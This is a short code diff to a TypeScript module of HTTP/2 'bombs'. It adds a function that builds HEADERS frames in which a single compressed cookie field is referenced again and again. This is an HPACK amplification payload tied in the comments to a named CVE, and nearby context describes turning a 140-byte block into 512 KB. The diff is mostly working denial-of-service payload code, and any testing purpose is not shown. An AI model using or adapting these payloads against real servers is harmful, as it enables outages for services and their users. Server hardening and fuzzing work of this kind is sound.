@@ -143,6 +143,24 @@ export const bombs: readonly Bomb[] = [
   },
 ];
 
+/**
+ * A call whose one small field is named again and again (CVE-2026-49975, the HTTP/2 bomb): a byte each time on the wire, and for each a
+ * record in whoever keeps one. A cookie, which may come in crumbs.
+ */
+export function crumbs(index: number, count: number): Buffer {
+  const call = Buffer.concat(
+    CALL.map((text, at) => Buffer.concat([at % 2 === 0 ? Buffer.of(0) : EMPTY, literal(text)])),
+  );
+  // The stream before has left it in the table.
+  const first =
+    index === 0 ? Buffer.concat([Buffer.of(0x40), literal('cookie'), literal('a=b')]) : Buffer.of(0x80 | 62);
+  const block = Buffer.concat([call, first, Buffer.alloc(count - 1, 0x80 | 62)]);
+  return Buffer.concat([
+    frameBytes(FrameType.HEADERS, Flag.END_HEADERS, nth(index), block),
+    dataFrame(nth(index), inferRequest(), true),
+  ]);
+}
+
 /** A header block out of a state that the attacker keeps, unlike `headerFrame`. */
 function largeFields(index: number, encoder: HpackEncoder): Buffer[] {
   // 4,000 octets once, and then one octet each time that they are named: 128 fields make 512 KB of a block of 140 bytes.
